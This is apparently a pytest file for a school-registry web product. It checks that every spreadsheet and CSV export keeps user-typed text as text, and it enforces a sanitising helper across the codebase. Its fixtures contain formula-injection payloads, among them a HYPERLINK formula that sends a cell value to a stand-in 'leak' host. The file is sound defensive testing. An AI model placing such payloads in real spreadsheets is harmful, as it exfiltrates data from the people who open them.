"""Formula injection (issue 11, M2): every spreadsheet the product writes keeps typed text
as text. Each writer gets a row of hostile values and is read back with openpyxl (the cell
is a string, never a formula) and python-calamine (the text, not a computed result); the
audit CSV with the csv module (an apostrophe in front). The last tests walk the product's
modules so a new writer cannot ship without going through common.spreadsheets."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
import python_calamine
from config.celery import app
from django.core.files.storage import default_storage
from django.db import connection
from openpyxl import Workbook, load_workbook

from common.spreadsheets import csv_cell, formula_like
from conftest import World, login
from tenant_apps.registry.fields import BY_KEY, COLUMNS
from tenant_apps.registry.imports import annotate
from tenant_apps.registry.imports.annotate import workbook_annotate
from tenant_apps.registry.imports.columns import DATA_SHEET, INSTRUCTIONS_SHEET
from tenant_apps.registry.imports.export import rows_export
from tenant_apps.registry.imports.template import template_build
from tenant_apps.registry.tests.factories import valid_row
from tenants.context import school_context

LEAK = '=HYPERLINK("http://x/leak?"&I2,"点击")'
HOSTILE = (LEAK, "+1", "-1+2", "@SUM(A1)", "\t=1")
# Values that look alike but are no formula: they must come back exactly, without a mark.
HARMLESS = ("-", "+", "-12.5", "#N/A")
# Free-text columns of the national template that a class teacher can fill in.
FREE_TEXT = ("native_place", "talents", "current_address", "postal_address", "home_address")
ROOT = Path(__file__).resolve().parent.parent


def _assert_text(data: bytes, sheet: str, expected: Sequence[str], *, marked: bool = True) -> None:
    """Every expected value is a string cell holding exactly that text, read by openpyxl
    and by calamine at the same place, and the sheet holds no formula at all. `marked`:
    the product wrote the cell, so a formula-like one also carries quotePrefix (cells of
    an upload annotated in place stay as the user's file had them)."""
    ws = load_workbook(io.BytesIO(data))[sheet]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    grid = (
        python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data))
        .get_sheet_by_name(sheet)
        .to_python(skip_empty_area=False)
    )
    for text in expected:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is missing from {sheet}"
        for cell in found:
            assert cell.data_type == "s", (text, cell.coordinate)
            # quotePrefix keeps Excel from re-reading the text as a formula when edited
            if marked:
                assert bool(cell.quotePrefix) == formula_like(text), (text, cell.coordinate)
            assert grid[cell.row - 1][cell.column - 1] == text, (text, cell.coordinate)


# -- the rule -----------------------------------------------------------------------------


def test_the_rule_marks_formula_leads_and_control_characters_but_not_numbers() -> None:
    assert [formula_like(t) for t in HOSTILE] == [True, False, True, True, True]
    assert all(formula_like(t) for t in ("\r=1", "\n@x", "\x01=1"))
    assert not any(formula_like(t) for t in ("-", "+", "-12.5", "+3", "1e5", "张三", ""))
    # "+1" is a number to a spreadsheet: no formula runs; xlsx keeps it as text anyway
    assert [csv_cell(t) for t in HOSTILE] == [f"'{LEAK}", "+1", "'-1+2", "'@SUM(A1)", "'\t=1"]
    assert [csv_cell(v) for v in ("-", -3, 2.5, None)] == ["-", "-3", "2.5", ""]


# -- rows_export: the student list ----------------------------------------------------------


def test_student_export_keeps_typed_formulas_as_text(world: World, db: None) -> None:
    from tenant_apps.registry.models import Student

    registrar = login(world.a.host, "registrar")
    row = valid_row(seq=7301)
    created = registrar.post("/api/v1/students/", row, content_type="application/json")
    connection.set_schema_to_public()
    assert created.status_code == 201, created.content
    # what a class teacher may type into the free-text fields of the record
    with school_context(world.a.schema):
        Student.objects.filter(name=row["name"]).update(
            **dict(zip(FREE_TEXT, HOSTILE, strict=True))
        )

    export = registrar.get("/api/v1/students/export/", {"q": row["name"]})
    connection.set_schema_to_public()

    assert export.status_code == 200
    _assert_text(export.content, DATA_SHEET, HOSTILE)
    ws = load_workbook(io.BytesIO(export.content))[DATA_SHEET]
    headers = [c.value for c in ws[1]]
    for key, text in zip(FREE_TEXT, HOSTILE, strict=True):
        assert ws.cell(row=2, column=headers.index(BY_KEY[key].header) + 1).value == text


def test_export_leaves_lookalikes_alone_and_survives_control_characters() -> None:
    columns = [BY_KEY[k] for k in FREE_TEXT] + [BY_KEY["name"], BY_KEY["former_name"]]
    record = dict(
        zip([c.key for c in columns], [*HARMLESS, "\r=1", "李\x01四", "王\x0b五"], strict=True)
    )

    data = rows_export(rows=[record], columns=columns)  # type: ignore[list-item]

    _assert_text(data, DATA_SHEET, [*HARMLESS, "\r=1"])
    ws = load_workbook(io.BytesIO(data))[DATA_SHEET]
    # XML cannot hold these characters; the file is still written, the value marked
    assert [c.value for c in ws[2]][-2:] == ["李\ufffd四", "王\ufffd五"]


# -- the teacher list and its template (registry.teachers.workbook through rows_export) ---


def test_teacher_export_and_template_keep_typed_formulas_as_text(world: World, db: None) -> None:
    from common.actor import Actor
    from tenant_apps.registry.teachers.services import TEACHER_SHEET, teacher_create

    subjects = [text[:30] for text in HOSTILE]  # 任教学科 holds 30 characters
    with school_context(world.a.schema):
        for n, text in enumerate(subjects):
            teacher_create(
                data={"staff_no": f"F{n}", "name": f"教师{n}", "sex": "1", "subject": text},
                actor=Actor("admin", "管理员", world.a.schema),
            )
    connection.set_schema_to_public()
    admin = login(world.a.host, "admin")

    export = admin.get("/school/teachers/export/")
    template = admin.get("/api/v1/school/teachers/template/")
    connection.set_schema_to_public()

    assert export.status_code == 200
    _assert_text(export.content, TEACHER_SHEET, [t.strip() for t in subjects])
    _assert_text(template.content, TEACHER_SHEET, ["工号"])
    _assert_text(template.content, INSTRUCTIONS_SHEET, ["填写说明"])


# -- the import template ------------------------------------------------------------------


def test_template_keeps_a_school_name_that_looks_like_a_formula_as_text(
    world: World, db: None
) -> None:
    from tenants.models import School

    name = LEAK
    School.objects.filter(pk=world.a.id).update(name=name)

    response = login(world.a.host, "registrar").get("/api/v1/imports/template/")
    connection.set_schema_to_public()

    assert response.status_code == 200
    title = f"{name}（学校标识码：{world.a.code}）学生信息导入模板"
    _assert_text(response.content, INSTRUCTIONS_SHEET, [title])
    # the data sheet too: nothing in it is a formula
    _assert_text(response.content, DATA_SHEET, [COLUMNS[0].header])


def test_template_built_for_any_name_has_no_formula() -> None:
    for name in ("@SUM(A1)", "\t=1"):
        data = template_build(school_name=name, school_code="2143016965")
        _assert_text(
            data, INSTRUCTIONS_SHEET, [f"{name}（学校标识码：2143016965）学生信息导入模板"]
        )


# -- annotated import workbooks -----------------------------------------------------------


def _hostile_row() -> list[str]:
    values = valid_row(seq=7302)
    values.update(dict(zip(FREE_TEXT, HOSTILE, strict=True)))
    values["ethnicity"] = "汉"  # an error, so the row is annotated
    return [str(values.get(c.key, "")) for c in COLUMNS]


def _xlsx_upload(rows: list[list[str]]) -> bytes:
    """An uploaded .xlsx whose hostile cells are text (as Excel stores typed '= text)."""
    book = Workbook()
    ws = book.active
    ws.title = DATA_SHEET  # type: ignore[union-attr]
    for r, values in enumerate(rows, start=1):
        for c, value in enumerate(values, start=1):
            cell = ws.cell(row=r, column=c)  # type: ignore[union-attr]
            cell.value = value
            cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


# A row-level message quoting what was typed, so 错误说明 itself starts with "=".
ANNOTATION_ERRORS = {2: [("row", LEAK), ("ethnicity", "民族须以“族”结尾。")]}


@pytest.mark.parametrize("fmt", ["xlsx", "xlsx_rebuilt", "csv"])
def test_annotated_workbook_keeps_typed_formulas_as_text(
    fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    header = [c.header for c in COLUMNS]
    rows = [header, _hostile_row()]
    if fmt == "csv":
        out = io.StringIO()
        csv.writer(out).writerows(rows)
        data = out.getvalue().encode("utf-8")
    else:
        data = _xlsx_upload(rows)
    if fmt == "xlsx_rebuilt":  # a sheet over the in-place limit is rebuilt in write-only mode
        monkeypatch.setattr(annotate, "ANNOTATE_IN_PLACE_MAX_CELLS", 10)

    annotated = workbook_annotate(data=data, fmt=fmt.split("_")[0], errors=ANNOTATION_ERRORS)

    _assert_text(annotated, DATA_SHEET, HOSTILE, marked=fmt != "xlsx")
    ws = load_workbook(io.BytesIO(annotated))[DATA_SHEET]
    note = ws.cell(row=2, column=len(COLUMNS) + 1)
    assert note.value.startswith(f"{LEAK}；")  # type: ignore[union-attr]
    assert note.data_type == "s"
    assert note.quotePrefix is True


@pytest.fixture
def eager() -> Iterator[None]:
    app.conf.task_always_eager = True
    yield
    app.conf.task_always_eager = False


def test_import_of_a_csv_hands_back_its_formulas_as_text(
    world: World, db: None, eager: None, django_capture_on_commit_callbacks
) -> None:
    from tenant_apps.registry.models import ImportBatch

    out = io.StringIO()
    csv.writer(out).writerows([[c.header for c in COLUMNS], _hostile_row()])
    upload = io.BytesIO(out.getvalue().encode("utf-8"))
    upload.name = "students.csv"
    client = login(world.a.host, "registrar")
    with django_capture_on_commit_callbacks(execute=True):
        started = client.post("/api/v1/imports/", {"file": upload})
    connection.set_schema_to_public()
    assert started.status_code == 202, started.content

    with school_context(world.a.schema):
        key = ImportBatch.objects.get(pk=started.json()["id"]).annotated_key
        with default_storage.open(key, "rb") as f:
            annotated = f.read()
    connection.set_schema_to_public()

    _assert_text(annotated, DATA_SHEET, HOSTILE)


# -- the audit-log CSV --------------------------------------------------------------------


def test_audit_csv_export_marks_formulas_with_an_apostrophe(world: World, db: None) -> None:
    from accounts.audit import audit_record

    with school_context(world.a.schema):
        for text in (*HOSTILE, *HARMLESS):
            audit_record(actor="registrar", action="write", object_type="student", object_repr=text)
    connection.set_schema_to_public()

    response = login(world.a.host, "admin").get("/accounts/audit/export/", {"action": "write"})
    connection.set_schema_to_public()

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    reprs = {r[8] for r in rows}
    assert {f"'{LEAK}", "+1", "'-1+2", "'@SUM(A1)", "'\t=1", *HARMLESS} <= reprs
    assert not any(formula_like(r[8]) for r in rows)


# -- no writer without the rule -----------------------------------------------------------

PRODUCT_DIRS = ("accounts", "common", "shared_apps", "tenant_apps", "tenants", "platform")
HELPER = "common/spreadsheets.py"
# Every module that writes spreadsheets, with the tests above that read its output back.
# A new writer must be added here, with a test, and write through common.spreadsheets.
WRITERS = {
    "tenant_apps/registry/imports/export.py": (
        "test_student_export_keeps_typed_formulas_as_text",
        "test_teacher_export_and_template_keep_typed_formulas_as_text",
    ),
    "tenant_apps/registry/imports/template.py": (
        "test_template_keeps_a_school_name_that_looks_like_a_formula_as_text",
        "test_teacher_export_and_template_keep_typed_formulas_as_text",
    ),
    "tenant_apps/registry/imports/annotate.py": (
        "test_annotated_workbook_keeps_typed_formulas_as_text",
        "test_import_of_a_csv_hands_back_its_formulas_as_text",
    ),
    "accounts/audit_selectors.py": ("test_audit_csv_export_marks_formulas_with_an_apostrophe",),
    "tenant_apps/reports/stats/exports.py": ("test_stats_table_export_keeps_formulas_as_text",),
    "tenant_apps/reports/gradestats/exports.py": (
        "test_grade_statistics_export_keeps_formulas_as_text",
    ),
    "tenant_apps/reports/printing/documents.py": (
        "test_print_centre_excel_keeps_formulas_as_text",
    ),
    "tenant_apps/reports/query/exports.py": ("test_query_export_keeps_typed_formulas_as_text",),
    "tenant_apps/grades/imports.py": ("test_marks_template_keeps_a_typed_name_as_text",),
    "shared_apps/bureau/quality/exports.py": ("test_quality_list_export_keeps_formulas_as_text",),
    "shared_apps/bureau/dashboard/exports.py": (
        "test_dashboard_table_export_keeps_formulas_as_text",
    ),
    "tenant_apps/rosters/admissions_exports.py": (
        "test_admissions_diff_export_keeps_formulas_as_text",
    ),
    "tenant_apps/rosters/facade.py": ("test_county_admissions_file_part_keeps_formulas_as_text",),
    "tenant_apps/rosters/programme/exports.py": (
        "test_beneficiary_roster_export_keeps_formulas_as_text",
    ),
    "shared_apps/bureau/nutrition/exports.py": (
        "test_nutrition_counts_export_keeps_formulas_as_text",
    ),
}
OTHER_WRITER_LIBRARIES = ("xlsxwriter", "xlwt", "pyexcelerate", "pandas", "tablib", "odf")


def _product_modules() -> Iterator[tuple[str, ast.Module]]:
    for top in PRODUCT_DIRS:
        for path in sorted((ROOT / top).rglob("*.py")):
            rel = path.relative_to(ROOT).as_posix()
            if "/tests/" in rel or "/migrations/" in rel:
                continue
            yield rel, ast.parse(path.read_text(encoding="utf-8"))


def _imports(tree: ast.Module) -> set[str]:
    names: set[str] = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names.update(a.name for a in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module)
    return names


def _raw_writes(tree: ast.Module) -> list[str]:
    """Places where a module writes cells or CSV rows without common.spreadsheets."""
    found: list[str] = []
    sheets: set[str] = set()  # names that hold a worksheet
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            for arg in node.args.args + node.args.kwonlyargs:
                if arg.annotation is not None and "Worksheet" in ast.unparse(arg.annotation):
                    sheets.add(arg.arg)
        elif isinstance(node, ast.Assign) and len(node.targets) == 1:
            target, value = node.targets[0], node.value
            source = ast.unparse(value)
            if isinstance(target, ast.Name) and (
                ".create_sheet(" in source
                or source.endswith(".active")
                or (isinstance(value, ast.Subscript) and "wb" in source)
            ):
                sheets.add(target.id)
    for node in ast.walk(tree):
        line = getattr(node, "lineno", 0)
        if isinstance(node, ast.Assign | ast.AugAssign | ast.AnnAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr in ("value", "_value"):
                    found.append(f"line {line}: {ast.unparse(target)} = …")
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        if name in ("WriteOnlyCell", "Cell"):
            found.append(f"line {line}: {name}(…)")
        elif name in ("writer", "DictWriter", "writerow", "writerows"):
            found.append(f"line {line}: csv {name}(…)")
        elif name == "cell" and (
            len(node.args) >= 3 or any(k.arg == "value" for k in node.keywords)
        ):
            found.append(f"line {line}: .cell(…, value=…)")
        elif (
            name == "append"
            and isinstance(func, ast.Attribute)
            and isinstance(func.value, ast.Name)
            and func.value.id in sheets
            and not (
                len(node.args) == 1
                and isinstance(node.args[0], ast.Call)
                and getattr(node.args[0].func, "id", "") == "row_safe"
            )
        ):
            found.append(f"line {line}: {func.value.id}.append(…) without row_safe")
    return found


def test_every_spreadsheet_writer_goes_through_common_spreadsheets() -> None:
    writers: dict[str, list[str]] = {}
    for rel, tree in _product_modules():
        if rel == HELPER:
            continue
        imported = _imports(tree)
        banned = [m for m in imported if m.split(".")[0] in OTHER_WRITER_LIBRARIES]
        assert banned == [], f"{rel} imports {banned}: write spreadsheets with openpyxl"
        writes = any(m.split(".")[0] == "openpyxl" for m in imported) or (
            "common.spreadsheets" in imported
        )
        raw = _raw_writes(tree) if writes or "csv" in imported else []
        if writes:
            writers[rel] = raw
        assert raw == [], f"{rel} writes cells itself, not through common.spreadsheets: {raw}"
    assert set(writers) == set(WRITERS), (
        "a module writes spreadsheets without a test reading its output back: "
        f"{sorted(set(writers) ^ set(WRITERS))}"
    )
    tests = {n for n, v in globals().items() if n.startswith("test_") and callable(v)}
    assert {t for names in WRITERS.values() for t in names} <= tests


@pytest.mark.parametrize(
    "source",
    [
        "def f(ws: Worksheet):\n    ws.cell(row=1, column=1, value=x)",
        "def f(ws: Worksheet):\n    ws.cell(1, 1, x)",
        "def f(c):\n    c.value = x",
        "def f(ws):\n    WriteOnlyCell(ws, value=x)",
        "def f(wb):\n    ws = wb.create_sheet('a')\n    ws.append([x])",
        "def f(book):\n    sheet = book.active\n    sheet.append(row)",
        "import csv\ndef f(out):\n    csv.writer(out).writerow([x])",
    ],
)
def test_the_writer_check_catches_raw_writes(source: str) -> None:
    assert _raw_writes(ast.parse(source)) != []


def test_the_writer_check_accepts_writes_through_the_helper() -> None:
    source = (
        "def f(ws: Worksheet, wo):\n"
        "    cell_put(ws, 1, 1, x).font = bold\n"
        "    s = wo.create_sheet('a')\n"
        "    s.append(row_safe(s, values))\n"
        "    header.append(write_only_cell(s, x))\n"
    )
    assert _raw_writes(ast.parse(source)) == []


# -- the report app's workbooks (issue 15) ---------------------------------------------


def _sheet_text(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [str(c.value) for ws in book.worksheets for r in ws.iter_rows() for c in r if c.value]


def test_stats_table_export_keeps_formulas_as_text() -> None:
    from tenant_apps.reports.stats.exports import table_workbook
    from tenant_apps.reports.stats.selectors import Table

    table = Table(key="k", title="t", columns=["+1"], rows=[(LEAK, [1]), ("-1+2", [2])])

    data = table_workbook(table)

    book = load_workbook(io.BytesIO(data))
    _assert_text(data, book.sheetnames[0], [LEAK, "+1", "-1+2"])


def test_grade_statistics_export_keeps_formulas_as_text() -> None:
    from tenant_apps.reports.gradestats.exports import _workbook

    data = _workbook(LEAK, ["@SUM(A1)", "平均分"], [["-1+2", 3], ["\t=1", None]])

    _assert_text(data, "成绩", [LEAK, "@SUM(A1)", "-1+2", "\t=1"])


def test_print_centre_excel_keeps_formulas_as_text(world: World, db: None) -> None:
    from tenant_apps.registry.models import Student
    from tenant_apps.reports.printing.documents import render_xlsx
    from tenant_apps.reports.printing.selectors import Group

    with school_context(world.a.schema):
        student = Student.objects.select_related("school_class").first()
        assert student is not None
        # what a registrar may type into the name (in memory only: nothing is saved)
        student.name = LEAK
        data = render_xlsx("roster", [Group(student.school_class, [student])], full=False)

    assert LEAK in _sheet_text(data)
    book = load_workbook(io.BytesIO(data))
    _assert_text(data, book.sheetnames[0], [LEAK])


def test_query_export_keeps_typed_formulas_as_text(world: World, db: None) -> None:
    from tenant_apps.registry.models import Student

    with school_context(world.a.schema):
        Student.objects.update(native_place=LEAK, talents="+1")
    registrar = login(world.a.host, "registrar")

    export = registrar.get("/reports/query/export/?col=name&col=native_place&col=talents")
    connection.set_schema_to_public()

    assert export.status_code == 200, export.content[:300]
    _assert_text(export.content, "综合查询", [LEAK, "+1"])


def test_marks_template_keeps_a_typed_name_as_text(world: World, db: None) -> None:
    import datetime as dt

    from accounts.models import User
    from common.actor import Actor
    from tenant_apps.grades import services
    from tenant_apps.grades.imports import template_build
    from tenant_apps.grades.models import Course
    from tenant_apps.grades.terms import current_term
    from tenant_apps.registry.models import SchoolClass, Student

    term = current_term()
    with school_context(world.a.schema):
        actor = Actor("admin", "管理员", connection.schema_name)
        klass = SchoolClass.objects.create(
            stage="primary", entry_year=2024, number=7, class_no="2024107"
        )
        course = Course.objects.get(code="13")
        services.class_courses_set(
            class_id=klass.pk, course_ids=[course.pk], term=term, actor=actor
        )
        services.assignment_set(
            username="subject",
            class_ids=[klass.pk],
            course_ids=[course.pk],
            term=term,
            actor=actor,
        )
        Student.objects.create(
            name=LEAK,
            sex="1",
            birth_date=dt.date(2018, 3, 1),
            school_class=klass,
            number_in_class=1,
            entry_year_month="202409",
            audit_state=Student.Audit.REGISTERED,
        )
        data = template_build(user=User.objects.get(username="subject"), class_id=klass.pk)

    _assert_text(data, "成绩", [LEAK])


def test_quality_list_export_keeps_formulas_as_text(world: World, db: None) -> None:
    """数据质量's list workbook: a deleted record's reason typed as a formula stays text."""
    from shared_apps.bureau.quality.exports import figure_workbook
    from tenant_apps.registry.facade import QualityItem, QualityPage
    from tenants.models import School

    school = School.objects.get(pk=world.a.id)
    items = tuple(QualityItem("r", "张*", "-1+2", None, None, text) for text in (LEAK, "+1"))

    data = figure_workbook(school=school, figure="deleted", page=QualityPage(2, items))

    book = load_workbook(io.BytesIO(data))
    _assert_text(data, book.sheetnames[0], [LEAK, "+1", "-1+2"])


def test_dashboard_table_export_keeps_formulas_as_text() -> None:
    """统计看板's table workbook: a school (or township) named like a formula stays text,
    in the rows and in the title line."""
    from shared_apps.bureau.dashboard.exports import table_workbook
    from shared_apps.bureau.dashboard.selectors import DashTable, Row, Scope

    rows = [Row(text, [1, 2, 3]) for text in (LEAK, "+1")]
    table = DashTable("schools", "按学校", ["男", "女", "在读合计"], rows)
    scope = Scope("region", "-1+2", (), False)

    data = table_workbook(table, scope=scope, as_of="2026-09-01")

    _assert_text(data, "按学校", [LEAK, "+1"])
    assert load_workbook(io.BytesIO(data))["按学校"]["A1"].value == "-1+2 按学校"


# -- the admissions diff (issue 18 point 4) ---------------------------------------------


def test_admissions_diff_export_keeps_formulas_as_text() -> None:
    from tenant_apps.rosters.admissions import (
        DiffShown,
        MismatchShown,
        PairShown,
        PersonShown,
    )
    from tenant_apps.rosters.admissions_exports import diff_workbook

    people = [
        PersonShown(f"第{n}行", v, "男", "2018-01-01", "4301**********0016", v)
        for n, v in enumerate((*HOSTILE, *HARMLESS), 2)
    ]
    pair = PairShown(people[0], people[1], tuple(MismatchShown("姓名", v, v) for v in HOSTILE))
    diff = DiffShown(
        title="x",
        counts={},
        only_registry=tuple(people),
        only_listed=tuple(people),
        mismatched=(pair,),
    )
    data = diff_workbook(diffs=[(LEAK, diff)], summary=[[LEAK, 1]], summary_headers=["学校", "n"])
    _assert_text(data, "各校汇总", [LEAK])
    for sheet in ("仅在学籍", "仅在录取名单", "关键字段不一致"):
        _assert_text(data, sheet, HOSTILE)
    _assert_text(data, "仅在学籍", HARMLESS)


def test_county_admissions_file_part_keeps_formulas_as_text() -> None:
    from tenant_apps.rosters.facade import roster_part

    data = roster_part(["姓名", "学校"], [[v, v] for v in (*HOSTILE, *HARMLESS)])
    _assert_text(data, "录取名单", [*HOSTILE, *HARMLESS])


# -- 营养改善计划 (issue 18 point 3) ------------------------------------------------------


def test_beneficiary_roster_export_keeps_formulas_as_text() -> None:
    """月度受益学生名册: a pupil or class named like a formula stays text; the figures stay
    numbers."""
    import datetime as dt
    from decimal import Decimal

    from shared_apps.nutrition.calendar import Month
    from tenant_apps.rosters.programme.exports import roster_workbook
    from tenant_apps.rosters.programme.selectors import MonthRoster, RosterRow

    rows = [
        RosterRow(1, LEAK, "+1", dt.date(2026, 11, 2), None, 21, "3.00/4.00", Decimal("74.00")),
        RosterRow(2, "-1+2", "一年级1班", dt.date(2026, 11, 10), None, 8, "3.00", Decimal("24")),
    ]
    roster = MonthRoster(Month(2026, 11), 21, rows, 2, 29, Decimal("98.00"))

    data = roster_workbook(school_name="@SUM(A1)", roster=roster)

    _assert_text(data, "受益学生名册", [LEAK, "+1", "-1+2", "3.00/4.00"])
    sheet = load_workbook(io.BytesIO(data))["受益学生名册"]
    assert sheet["A1"].value == "@SUM(A1) · 2026年11月营养改善计划受益学生名册"
    assert [sheet["F4"].value, sheet["H4"].value] == [21, 74.0]


def test_nutrition_counts_export_keeps_formulas_as_text() -> None:
    """The county's monthly counts: a school named like a formula stays text."""
    from decimal import Decimal

    from shared_apps.bureau.nutrition.exports import counts_workbook
    from shared_apps.bureau.nutrition.selectors import CountRow, MonthCounts
    from shared_apps.nutrition.calendar import Month

    rows = [
        CountRow(LEAK, "-1+2", 21, 3, 50, Decimal("150.00")),
        CountRow("+1", "浏阳市", 0, 0, 0, Decimal("0")),
    ]
    counts = MonthCounts(Month(2026, 11), rows, 3, 50, Decimal("150.00"))

    data = counts_workbook(counts)

    _assert_text(data, "受益学生统计", [LEAK, "+1", "-1+2"])
    sheet = load_workbook(io.BytesIO(data))["受益学生统计"]
    assert [c.value for c in sheet[3]] == [1, "-1+2", LEAK, 21, 3, 50, 150.0]
    assert [c.value for c in sheet[5]][4:] == [3, 50, 150.0]
